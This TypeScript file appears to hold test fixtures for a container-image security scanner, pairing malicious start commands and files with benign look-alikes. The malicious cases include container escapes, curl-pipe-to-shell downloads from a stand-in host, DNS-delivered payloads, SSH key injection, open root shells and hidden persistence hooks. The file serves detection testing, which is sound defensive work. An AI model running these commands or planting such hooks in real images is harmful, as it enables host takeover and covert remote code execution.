import { type ImageCase, image, program, starts } from './image-case.ts';

const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
const URL = 'https://files.backend.example/u';
const FETCH = `curl -s ${URL} | sh`;

function step(rule: string, text: string, severity: ImageCase['severity'] = 'medium'): ImageCase {
  const spec = starts(text.startsWith('#!') ? text : `${text}\nexec nginx`);
  return { name: `${rule}: ${text}`, spec, rule, severity };
}

function hook(path: string, text: string): ImageCase {
  return {
    name: `hook: ${path}`,
    spec: image({ [path]: text }, NGINX),
    rule: 'start/download-and-run',
    severity: 'high',
  };
}

function variable(text: string): ImageCase {
  return {
    name: `variable: ${text}`,
    spec: image({}, { ...NGINX, Env: [text] }),
    rule: 'persistence/hidden-start',
  };
}

/** What an intruder would do next, by what it comes to rather than by what any detector was written for. All inert. */
export const NEXT_STEPS: readonly ImageCase[] = [
  step(
    'start/escapes',
    `curl -s --unix-socket /var/run/docker.sock -X POST -d '{"Image":"a","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' http://localhost/containers/create`,
    'high',
  ),
  step(
    'start/escapes',
    'docker -H unix:///var/run/docker.sock run -d --privileged -v /:/host a chroot /host id',
    'high',
  ),
  step('start/escapes', 'nsenter -t 1 -m -u -i -n -p -- sh -c "id"'),
  step('start/escapes', 'mkdir -p /mnt/h; mount /dev/sda1 /mnt/h && chroot /mnt/h /bin/sh -c "id"', 'high'),
  step('start/escapes', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern', 'high'),
  step(
    'start/escapes',
    'mount -t cgroup -o rdma cgroup /tmp/c; echo "$p/cmd" > /tmp/c/release_agent',
    'high',
  ),
  step('start/escapes', 'insmod /opt/x.ko'),
  step('start/escapes', 'echo "* * * * * root id" >> /host/etc/crontab'),
  step('start/download-and-run', `dig +short TXT x.backend.example | tr -d '"' | base64 -d | sh`, 'high'),
  step(
    'start/download-and-run',
    'X=$(nslookup -type=TXT x.backend.example | cut -d: -f2); eval "$X"',
    'high',
  ),
  step('start/download-and-run', `npx -y ${URL}.tgz`, 'high'),
  step('start/download-and-run', `flock -n /tmp/l -c "${FETCH}"`, 'high'),
  step('start/download-and-run', `flock -w 10 -E 5 -x -o /tmp/l -c "${FETCH}"`, 'high'),
  step(
    'start/download-and-run',
    `#!/usr/bin/env python3\nimport os, urllib.request\nfd = os.memfd_create("", 0)\nos.write(fd, urllib.request.urlopen("${URL}").read())\nos.execve(f"/proc/self/fd/{fd}", ["k"], {})`,
  ),
  step('start/decode-and-run', 'gpg --batch --passphrase x -d /opt/f.gpg | sh'),
  step('access/authorized-keys', 'curl -s https://keys.backend.example/a.keys >> /root/.ssh/authorized_keys'),
  step('access/authorized-keys', 'ssh-import-id gh:somebody'),
  step('open-service/no-login', 'telnetd -p 2323 -l /bin/bash -F &'),
  step('open-service/no-login', 'ttyd -p 7681 bash &'),
  step('tunnel/agent', 'gs-netcat -s k3y -l -i &'),
  step('tunnel/agent', 'tmate -F &'),
  hook('usr/lib/python3/dist-packages/sitecustomize.py', `import os\nos.system("${FETCH}")\n`),
  hook('usr/lib/python3/dist-packages/zz.pth', `import os; os.system("${FETCH}")\n`),
  hook('etc/apt/apt.conf.d/99x', `DPkg::Post-Invoke { "${FETCH}"; };\n`),
  hook('etc/apt/apt.conf.d/98x', `APT::Update::Pre-Invoke {\n  "${FETCH}";\n};\n`),
  hook('etc/logrotate.d/x', `/var/log/x {\n  daily\n  postrotate\n    ${FETCH}\n  endscript\n}\n`),
  hook('etc/network/if-up.d/x', `#!/bin/sh\n${FETCH}\n`),
  hook('etc/ssh/sshrc', `${FETCH}\n`),
  variable('NODE_OPTIONS=--require /dev/shm/.x/a.js'),
  variable('JAVA_TOOL_OPTIONS=-javaagent:/var/tmp/.x/a.jar'),
  variable('LD_LIBRARY_PATH=/opt/app/lib:/tmp/.x'),
  variable('PATH=/var/tmp/.b:/usr/bin:/bin'),
  {
    name: 'link: a cron table that lies elsewhere',
    spec: image(
      {
        'opt/data/f': '* * * * * root /var/tmp/.x/upd\n',
        'etc/cron.d/f': { type: 'symlink', target: '/opt/data/f' },
      },
      NGINX,
    ),
    rule: 'persistence/hidden-start',
  },
  {
    name: 'link: ld.so.preload that lies elsewhere',
    spec: image(
      {
        'opt/data/f': '/usr/lib/.x/libc.so\n',
        'usr/lib/.x/libc.so': program(),
        'etc/ld.so.preload': { type: 'symlink', target: '/opt/data/f' },
      },
      NGINX,
    ),
    rule: 'persistence/preload',
    severity: 'high',
  },
];

function honest(name: string, text: string): ImageCase {
  return { name, spec: starts(`${text}\nexec nginx`) };
}

/** Honest images that take the same steps. */
export const NEXT_STEP_TWINS: readonly ImageCase[] = [
  honest(
    'a list of containers',
    'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json',
  ),
  honest(
    'a build by the engine',
    'docker build -t app /src && docker run --rm -v /src:/src -v "$PWD":/w app make test',
  ),
  honest('a volume', 'mount /dev/sdb1 /data && ls /data; mount -t tmpfs tmpfs /run/x'),
  honest('a module by name', 'modprobe wireguard; modprobe -r br_netfilter'),
  honest('dumps of programs', 'echo core > /proc/sys/kernel/core_pattern'),
  honest('the namespaces of another container', 'nsenter -t "$PID" -n ip addr'),
  honest(
    'a record of DNS that is looked at',
    'dig +short TXT _acme-challenge.example.com | grep -q "$TOKEN" && host -t txt example.com',
  ),
  honest(
    'keys that the user names',
    'curl -fsSL "https://github.com/${GH_USER}.keys" >> /root/.ssh/authorized_keys',
  ),
  honest(
    'a terminal that has people log in, and one that only it reaches',
    'ttyd -i lo -p 7681 bash &\nttyd -p 7682 -O login &',
  ),
  honest(
    'a handler of dumps',
    'echo "|/usr/share/apport/apport -p%p -s%s -c%c" > /proc/sys/kernel/core_pattern',
  ),
  honest('a terminal with a password', 'ttyd -c "$USER:$PASS" -p 7681 bash &'),
  honest('a package runner', 'npx -y prisma migrate deploy; pnpm dlx cowsay hello'),
  {
    name: 'hooks of distributions',
    spec: image(
      {
        'etc/apt/apt.conf.d/docker-clean':
          'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true"; };\nAPT::Update::Post-Invoke { "rm -f /var/cache/apt/*.bin || true"; };\n',
        'etc/logrotate.d/nginx':
          '/var/log/nginx/*.log {\n\tsharedscripts\n\tprerotate\n\t\tif [ -d /etc/logrotate.d/httpd-prerotate ]; then \\\n\t\t\trun-parts /etc/logrotate.d/httpd-prerotate; \\\n\t\tfi \\\n\tendscript\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\tendscript\n}\n',
        'usr/lib/python3/dist-packages/distutils-precedence.pth':
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
        'etc/python3.11/sitecustomize.py':
          '# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n',
        'etc/systemd/system/multi-user.target.wants/app.service': {
          type: 'symlink',
          target: '/opt/app/app.service',
        },
        'opt/app/app.service': '[Service]\nExecStart=/opt/app/run\n',
      },
      {
        ...NGINX,
        Env: [
          'PATH=/root/.cargo/bin:/usr/local/bin:/usr/bin:/bin',
          'NODE_OPTIONS=--max-old-space-size=4096',
          'JAVA_TOOL_OPTIONS=-javaagent:/opt/apm/agent.jar',
          'PYTHONPATH=/app/.venv/lib/python3.12/site-packages:/app',
          'LD_LIBRARY_PATH=/usr/local/nvidia/lib:/usr/local/cuda/lib64',
        ],
      },
    ),
  },
];
